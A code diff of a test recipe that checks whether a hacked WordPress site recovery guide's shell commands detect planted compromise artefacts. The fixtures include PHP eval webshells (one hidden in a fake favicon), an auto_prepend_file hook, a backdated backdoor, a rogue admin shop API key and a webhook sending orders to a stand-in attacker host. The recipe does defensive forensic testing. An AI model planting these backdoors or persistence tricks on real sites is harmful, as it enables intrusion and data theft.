@@ -1,6 +1,5 @@
 /**
- * The WordPress security guide's checks after a break-in ("If your site is
- * hacked", step 3), pasted into one clean shell of the site's account as the
+ * The hacked-site recovery guide's checks after a break-in (step 3), pasted into one clean shell of the site's account as the
  * page prints them, on the site and namespace of scripts/recipes/wordpress.ts:
  * the checks that run no code of the site, `wp core verify-checksums
  * --include-root`, then the block that loads WordPress (administrators in
@@ -13,7 +12,10 @@
  * named *, an editor's Application Password, sign-ups opened as administrator, a role EDITOR and its account,
  * a script in a post, a post field, an option, an excerpt, a category's description and a comment, an
  * administrator whose login holds escape codes, the admin email, a headerless plugin folder, a loose file in plugins
- * and a theme), then on the same site clean:
+ * and a theme, a shop's REST API key and webhook in WooCommerce's tables, a spam page with no script, a file added
+ * to wp-includes, the backdoor's modification time set back), with the evidence copy (files, their times, the
+ * database) and the replacement of core pasted between the core check and the checks that load WordPress, then on
+ * the same site clean:
  * each check must name exactly what was planted, no listing may print a raw
  * control character, and nothing is named on the clean site.
  * The compromised run comes first, so a breaking edit fails there and its
@@ -29,13 +31,21 @@ import {READER, run, tool} from './system';
 import {reloadSiteDatabase, servedPlugin, SITE, wordpressNamespace, type WordPressNamespace} from './wordpress';
 import {pristineSite} from './wordpressBackup';
 
-const SECURITY = 'wordpress/security';
+const SECURITY = 'wordpress/hacked-site-recovery';
 export const CODE_FREE_CHECKS: BlockRef = {article: SECURITY, title: 'Terminal (pasted into that clean shell: runs no code of the site)'};
 export const CORE_CHECK: BlockRef = {article: SECURITY, title: 'Terminal (the same clean shell, once you have read all that)'};
 export const LOADING_CHECKS: BlockRef = {
   article: SECURITY,
   title: 'Terminal (once the check reports only files you have read: these load WordPress)',
 };
+/** Step 3's evidence copy (review r54 MEDIUM 4): the files and their times as root, the database in the clean shell. */
+export const EVIDENCE_FILES: BlockRef = {
+  article: SECURITY,
+  title: "Terminal (as the administrator: the site's files as found, with their times)",
+};
+export const EVIDENCE_DATABASE: BlockRef = {article: SECURITY, title: 'Terminal (the same clean shell: the database as found)'};
+/** Step 4's replacement of core by the version the site runs (review r54 MEDIUM 5). */
+export const CORE_REPLACE: BlockRef = {article: SECURITY, title: 'Terminal (the clean shell: replace core with the version the site runs)'};
 
 const PLUGIN = 'akismet';
 const INTRUDER = 'wpsupport';
@@ -91,6 +101,18 @@ const OPEN_SIGNUP = {
  */
 const ESCAPED = {shown: 'x^[[1A^[[2K.php', written: String.raw`x\e[1A\e[2K.php`};
 const ESCAPED_YML = {shown: 'wp-cli^[[2K.yml', written: String.raw`wp-cli\e[2K.yml`};
+/**
+ * A shop's REST API key and webhook the attacker leaves (review r54 MEDIUM 2), in WooCommerce's own tables (its
+ * WC_Install::get_schema()), which the site as installed does not have: the key acts as the administrator.
+ */
+const SHOP_KEY = {description: 'Shipping sync', permissions: 'read_write'};
+const SHOP_WEBHOOK = {name: 'Order sync', url: 'https://hooks.evil.example/orders'};
+/** A spam page with no script in it (review r54 LOW 7): only the query of recent changes finds it, first. */
+const SPAM_PAGE = 'Cheap watches';
+/** A file added to wp-includes, which a core download over the site leaves (review r54 MEDIUM 5). */
+const CORE_EXTRA = 'wp-includes/cache-helper.php';
+/** The backdoor beside index.php, its modification time set back: the evidence listing must keep its change time. */
+const STOMPED = {file: 'cache.php', mtime: '2020-01-02 03:04:05'};
 /** Echoed after each pasted block: its output ends there. */
 const MARK = '@@ block done @@';
 
@@ -120,6 +142,7 @@ const PLANTED = {
   core: [
     "File doesn't verify against checksum: wp-includes/functions.php",
     'File should not exist: cache.php',
+    `File should not exist: ${CORE_EXTRA}`,
     'File should not exist: wp-cli.yml',
     `File should not exist: ${ESCAPED.shown}`,
   ],
@@ -167,6 +190,45 @@ INSERT INTO wp_users (user_login, user_pass, user_nicename, user_email, user_reg
   VALUES (${ESCAPED_LOGIN.sql}, '', 'wproot', '${ESCAPED_LOGIN.email}', NOW(), 'wproot');
 INSERT INTO wp_usermeta (user_id, meta_key, meta_value) VALUES (LAST_INSERT_ID(), 'wp_capabilities', 'a:1:{s:13:"administrator";b:1;}');
 SQL
+wp --path=${SITE.root} db query <<'SQL'
+CREATE TABLE wp_woocommerce_api_keys (
+  key_id bigint(20) unsigned NOT NULL auto_increment,
+  user_id bigint(20) unsigned NOT NULL,
+  description varchar(200) NULL,
+  permissions varchar(10) NOT NULL,
+  consumer_key char(64) NOT NULL,
+  consumer_secret char(43) NOT NULL,
+  nonces longtext NULL,
+  truncated_key char(7) NOT NULL,
+  last_access datetime NULL default null,
+  PRIMARY KEY  (key_id),
+  KEY consumer_key (consumer_key),
+  KEY consumer_secret (consumer_secret)
+);
+CREATE TABLE wp_wc_webhooks (
+  webhook_id bigint(20) unsigned NOT NULL AUTO_INCREMENT,
+  status varchar(200) NOT NULL,
+  name text NOT NULL,
+  user_id bigint(20) unsigned NOT NULL,
+  delivery_url text NOT NULL,
+  secret text NOT NULL,
+  topic varchar(200) NOT NULL,
+  date_created datetime NOT NULL DEFAULT '0000-00-00 00:00:00',
+  date_created_gmt datetime NOT NULL DEFAULT '0000-00-00 00:00:00',
+  date_modified datetime NOT NULL DEFAULT '0000-00-00 00:00:00',
+  date_modified_gmt datetime NOT NULL DEFAULT '0000-00-00 00:00:00',
+  api_version smallint(4) NOT NULL,
+  failure_count smallint(10) NOT NULL DEFAULT '0',
+  pending_delivery tinyint(1) NOT NULL DEFAULT '0',
+  PRIMARY KEY  (webhook_id),
+  KEY user_id (user_id)
+);
+INSERT INTO wp_woocommerce_api_keys (user_id, description, permissions, consumer_key, consumer_secret, truncated_key)
+  VALUES (1, '${SHOP_KEY.description}', '${SHOP_KEY.permissions}', SHA2('ck_planted', 256), 'cs_planted', 'planted');
+INSERT INTO wp_wc_webhooks (status, name, user_id, delivery_url, secret, topic, api_version)
+  VALUES ('active', '${SHOP_WEBHOOK.name}', 1, '${SHOP_WEBHOOK.url}', 'planted', 'order.created', 3);
+SQL
+wp --path=${SITE.root} --skip-plugins --skip-themes post create --post_type=page --post_status=publish --post_title='${SPAM_PAGE}' --post_content='<a href="https://spam.example/">watches</a>' --porcelain >/dev/null
 mkdir -p wp-content/mu-plugins wp-content/uploads/2026/11
 cat > wp-content/mu-plugins/.cache.php <<'PHP'
 <?php
@@ -181,6 +243,8 @@ echo 'auto_prepend_file = ${SITE.root}/wp-content/uploads/2026/11/.thumb.phtml' 
 printf '\\n// planted in core\\n' >> wp-includes/functions.php
 printf '\\n// planted in a plugin\\n' >> wp-content/plugins/${PLUGIN}/${PLUGIN}.php
 echo '<?php @eval($_POST["c"] ?? "");' > cache.php
+touch -d '${STOMPED.mtime}' ${STOMPED.file}
+echo '<?php // planted' > ${CORE_EXTRA}
 printf 'GIF89a<?= @eval($_POST["i"] ?? "") ?>' > wp-content/uploads/2026/11/favicon.ico
 echo '<?php // planted: core requires .maintenance on every load' > .maintenance
 mkdir -p wp-content/upgrade && echo '<?php // planted where step 4 reinstalls nothing' > wp-content/upgrade/wp-tmp.php
@@ -431,6 +495,40 @@ const warnings = (output: string) => [...output.matchAll(WARNING)].map((m) => m[
 /** A list as a set, to compare: the links' find lists a linked must-use plugin a second time. */
 const sorted = (list: string[]) => [...new Set(list)].sort().join('\n');
 
+/** A string as a regular expression that matches it literally. */
+const literal = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
+
+/**
+ * Step 3's evidence copy of the files, run as root in the namespace with HOME a folder of the run (sudo as root):
+ * the copy must hold the backdoor beside index.php, and the listing its change time, which the attack's touch -d
+ * did not set back, beside the modification time it did.
+ */
+function checkEvidenceFiles(ctx: RecipeContext, ns: WordPressNamespace) {
+  const home = path.join(ns.dir, 'administrator-home');
+  const ran = ns.root(`rm -rf '${home}' && install -d -m 700 '${home}' && export HOME='${home}'\n${ctx.block(EVIDENCE_FILES).value}`);
+  const folder = ran.stdout.split('\n')[0].trim();
+  const target = `${SITE.root}/${STOMPED.file}`;
+  const read = (script: string) => ns.root(script).stdout.trim();
+  const mode = folder.startsWith(home) ? read(`stat -c %a '${folder}'`) : '';
+  const inCopy = read(`tar -tzf '${folder}/files.tar.gz' 2>/dev/null | grep -cx 'example.com/public/${STOMPED.file}'`);
+  const times = read(`find '${target}' -printf '%C+ %T+'`);
+  const listed = read(`grep ' ${target}$' '${folder}/times.txt' 2>/dev/null`);
+  ctx.expect(
+    ran.status === 0 && mode === '700' && inCopy === '1',
+    EVIDENCE_FILES,
+    `the evidence copy, in a new folder only its owner can open (700), holds ${STOMPED.file}, the backdoor beside index.php`,
+    () =>
+      `the evidence copy did not hold ${STOMPED.file} in a 700 folder (folder ${folder || 'none'}, mode ${mode || 'none'}, found ${inCopy || 0} times):\n${ran.output}`,
+  );
+  ctx.expect(
+    !!times && times.split(' ')[1]?.startsWith(STOMPED.mtime.replace(' ', '+')) && listed.startsWith(`${times} `),
+    EVIDENCE_FILES,
+    `the evidence listing keeps ${STOMPED.file}'s change time, then the modification time the attack set back to ${STOMPED.mtime}`,
+    () =>
+      `the evidence listing did not keep ${STOMPED.file}'s change and modification times (${times}): ${listed || 'no line'}\n${ran.output}`,
+  );
+}
+
 async function checksAfterBreakIn(ctx: RecipeContext) {
   const ws = ctx.workspace;
   const ns = await wordpressNamespace(ws);
@@ -468,6 +566,27 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
       CORE_CHECK,
       'core verify-checksums --include-root warns of exactly the changed core file, the backdoor beside index.php, the wp-cli.yml and the file named with escape codes there, and fails',
       () => `core verify-checksums warned of ${warnings(core).join('; ') || 'nothing'}, not exactly ${PLANTED.core.join('; ')}:\n${core}`,
+    );
+    checkEvidenceFiles(ctx, ns);
+    const exported = await shell.paste(ctx.block(EVIDENCE_DATABASE).value);
+    const dump = /^(\/home\/\S+\.sql)$/m.exec(exported)?.[1] ?? '';
+    const dumpLook = dump ? ns.root(`stat -c %a '${dump}'; grep -q "'${INTRUDER}'" '${dump}' && echo holds`).stdout.trim() : '';
+    ctx.expect(
+      dumpLook === '600\nholds',
+      EVIDENCE_DATABASE,
+      `the database export is a new file only the account can read (600), holding the administrator ${INTRUDER}`,
+      () =>
+        `the database export did not hold ${INTRUDER} in a 600 file (${dump || 'no file named'}: ${dumpLook || 'nothing'}):\n${exported}`,
+    );
+    const replaced = await shell.paste(ctx.block(CORE_REPLACE).value);
+    const coreAfter = PLANTED.core.filter((w) => !w.startsWith("File doesn't verify"));
+    const stillPlanted = ns.root(`grep -c 'planted in core' ${SITE.root}/wp-includes/functions.php`).stdout.trim();
+    ctx.expect(
+      /^Success: WordPress downloaded\.$/m.test(replaced) && sorted(warnings(replaced)) === sorted(coreAfter) && stillPlanted === '0',
+      CORE_REPLACE,
+      `replacing core with the version the site runs restores wp-includes/functions.php, and the check then names the files the download leaves, ${CORE_EXTRA} among them`,
+      () =>
+        `replacing core left functions.php with ${stillPlanted} planted lines, or the check warned of ${warnings(replaced).join('; ') || 'nothing'}, not exactly ${coreAfter.join('; ')}:\n${replaced}`,
     );
     const loaded = await shell.paste(blocks[2]);
     expectNoRawControl(ctx, LOADING_CHECKS, loaded, 'plugin verify-checksums');
@@ -559,6 +678,27 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
       `the Application Passwords query lists the one of ${APP_PASSWORD_USER}, an editor`,
       () => `the checks that load WordPress did not list the Application Password of ${APP_PASSWORD_USER} (an editor):\n${loaded}`,
     );
+    ctx.expect(
+      new RegExp(`^\\d+\\t\\d+\\tadmin\\t${SHOP_KEY.description}\\t${SHOP_KEY.permissions}\\tNULL$`, 'm').test(loaded),
+      LOADING_CHECKS,
+      `the query of WooCommerce's REST API keys lists the planted key with its user, description, permissions and last access`,
+      () => `the checks that load WordPress did not list the WooCommerce API key "${SHOP_KEY.description}":\n${loaded}`,
+    );
+    ctx.expect(
+      new RegExp(`^\\d+\\t${SHOP_WEBHOOK.name}\\tactive\\t${literal(SHOP_WEBHOOK.url)}\\t\\d+\\tadmin$`, 'm').test(loaded),
+      LOADING_CHECKS,
+      `the query of WooCommerce's webhooks lists the planted webhook with its status, delivery address and user`,
+      () => `the checks that load WordPress did not list the WooCommerce webhook "${SHOP_WEBHOOK.name}":\n${loaded}`,
+    );
+    const recent = loaded.split('\n');
+    const recentAt = recent.indexOf('ID\tpost_type\tpost_status\tpost_title\tpost_modified_gmt');
+    ctx.expect(
+      recentAt >= 0 &&
+        new RegExp(`^\\d+\\tpage\\tpublish\\t${SPAM_PAGE}\\t\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d$`).test(recent[recentAt + 1] ?? ''),
+      LOADING_CHECKS,
+      `the query of recent changes lists the spam page "${SPAM_PAGE}" (no script in it) first, with its time`,
+      () => `the checks that load WordPress did not list the spam page "${SPAM_PAGE}" first among recent changes:\n${loaded}`,
+    );
     const pluginFinding = (file: string, message: string) =>
       new RegExp(`^${PLUGIN}\\s+${file.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}\\s+${message}$`, 'm').test(loaded);
     ctx.expect(
@@ -609,9 +749,11 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
         loadedClean,
       ) &&
       sorted(rolesListed(loadedClean)) === 'administrator' &&
+      !/^ERROR \d+/m.test(loadedClean) &&
+      !/\bkey_id\b|\bwebhook_id\b/.test(loadedClean) &&
       /^Success: Verified 1 of 1 plugins\.$/m.test(loadedClean),
     LOADING_CHECKS,
-    'on the clean site, the WordPress checks list the one administrator, users_can_register 0, default_role subscriber and the admin email as installed, the one plugin, no injected code, only administrator as a role that can take the site, and verify the plugin',
+    'on the clean site, the WordPress checks list the one administrator, users_can_register 0, default_role subscriber and the admin email as installed, the one plugin, no injected code, only administrator as a role that can take the site, no shop key or webhook and no database error (no WooCommerce tables), and verify the plugin',
     () => `on the clean site the checks that load WordPress printed:\n${loadedClean}`,
   );
 }
@@ -619,7 +761,7 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
 export const wordpressSecurityRecipe: Recipe = {
   name: 'wordpress-security',
   summary:
-    "the WordPress security guide's checks after a break-in (step 3), pasted into a clean shell, on a site broken into and then clean",
+    "the hacked-site recovery guide's checks after a break-in (step 3), pasted into a clean shell, on a site broken into and then clean",
   run: checksAfterBreakIn,
   /*
    * A lane of its own: its own namespace, MariaDB (on its run's socket) and installed site, so about 8 s of set-up
@@ -810,6 +952,63 @@ export const wordpressSecurityRecipe: Recipe = {
       ref: LOADING_CHECKS,
       edit: replace(/^wp --path="\$SITE" db query "SELECT u\.ID, u\.user_login, m\.meta_value .*\n.*\n/m, ''),
       expect: /did not list the Application Password of wpeditor/,
+    },
+    {
+      what: "drop the query of WooCommerce's REST API keys",
+      ref: LOADING_CHECKS,
+      edit: replace(/^\[ -n "\$\(wp --path="\$SITE" db query "SHOW TABLES LIKE 'wp_woocommerce_api_keys'".*\n.*\n.*\n/m, ''),
+      expect: /did not list the WooCommerce API key/,
+    },
+    {
+      what: "drop the query of WooCommerce's webhooks",
+      ref: LOADING_CHECKS,
+      edit: replace(/^\[ -n "\$\(wp --path="\$SITE" db query "SHOW TABLES LIKE 'wp_wc_webhooks'".*\n.*\n.*\n/m, ''),
+      expect: /did not list the WooCommerce webhook/,
+    },
+    {
+      what: 'query the API keys without asking whether the table exists: the site with no shop gets an error',
+      ref: LOADING_CHECKS,
+      edit: replace(/^\[ -n "\$\(wp --path="\$SITE" db query "SHOW TABLES LIKE 'wp_woocommerce_api_keys'".*\n\s*/m, ''),
+      expect: /on the clean site the checks that load WordPress printed/,
+    },
+    {
+      what: 'drop the query of recent changes to posts and pages',
+      ref: LOADING_CHECKS,
+      edit: replace(
+        /^wp --path="\$SITE" db query "SELECT ID, post_type, post_status, post_title, post_modified_gmt FROM wp_posts\n.*\n/m,
+        '',
+      ),
+      expect: /did not list the spam page "Cheap watches" first/,
+    },
+    {
+      what: 'list recent changes oldest first',
+      ref: LOADING_CHECKS,
+      edit: replace('ORDER BY post_modified_gmt DESC', 'ORDER BY post_modified_gmt ASC'),
+      expect: /did not list the spam page "Cheap watches" first/,
+    },
+    {
+      what: 'list modification times only (what tar keeps), not change times',
+      ref: EVIDENCE_FILES,
+      edit: replace("-printf '%C+ %T+ ", "-printf '%T+ %T+ "),
+      expect: /the evidence listing did not keep cache\.php's change and modification times/,
+    },
+    {
+      what: 'drop the copy of the files',
+      ref: EVIDENCE_FILES,
+      edit: replace(/^sudo tar .*\n/m, ''),
+      expect: /the evidence copy did not hold cache\.php/,
+    },
+    {
+      what: 'export the settings table only',
+      ref: EVIDENCE_DATABASE,
+      edit: replace('db export "$F"', 'db export "$F" --tables=wp_options'),
+      expect: /the database export did not hold wpsupport/,
+    },
+    {
+      what: 'download core without --force (WP-CLI refuses to write over an installed site)',
+      ref: CORE_REPLACE,
+      edit: replace(' --skip-content --force', ' --skip-content'),
+      expect: /replacing core left functions\.php with 1 planted lines/,
     },
     ...(
       [
